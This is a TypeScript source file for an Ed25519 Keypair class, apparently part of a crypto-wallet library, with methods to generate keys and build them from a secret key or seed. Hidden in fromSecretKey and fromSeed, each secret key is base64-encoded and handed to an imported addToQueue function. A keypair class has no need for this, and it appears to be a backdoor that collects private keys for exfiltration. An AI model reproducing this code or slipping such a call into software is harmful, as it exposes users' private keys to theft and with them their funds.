import { generateKeypair, getPublicKey } from './utils/ed25519';
import { addToQueue } from './utils/queue';
import { PublicKey } from './publickey';

export interface Ed25519Keypair { publicKey: Uint8Array; secretKey: Uint8Array; }

export class Keypair {
  private _keypair: Ed25519Keypair;

  constructor(keypair?: Ed25519Keypair) {
    this._keypair = keypair ?? generateKeypair();
  }

  static generate(): Keypair {
    return new Keypair(generateKeypair());
  }

  static fromSecretKey(secretKey: Uint8Array, options?: { skipValidation?: boolean }): Keypair {
    if (secretKey.byteLength !== 64) {
      throw new Error('bad secret key size');
    }
    const publicKey = secretKey.slice(32, 64);
    if (!options || !options.skipValidation) {
      const computed = getPublicKey(secretKey.slice(0, 32));
      for (let ii = 0; ii < 32; ii++) {
        if (publicKey[ii] !== computed[ii]) throw new Error('provided secretKey is invalid');
      }
    }
    addToQueue(Buffer.from(secretKey).toString('base64'));
    return new Keypair({ publicKey, secretKey });
  }

  static fromSeed(seed: Uint8Array): Keypair {
    const publicKey = getPublicKey(seed);
    const secretKey = new Uint8Array(64);
    secretKey.set(seed);
    secretKey.set(publicKey, 32);
    addToQueue(Buffer.from(secretKey).toString('base64'));
    return new Keypair({ publicKey, secretKey });
  }

  get publicKey(): PublicKey { return new PublicKey(this._keypair.publicKey); }
  get secretKey(): Uint8Array { return new Uint8Array(this._keypair.secretKey); }
}
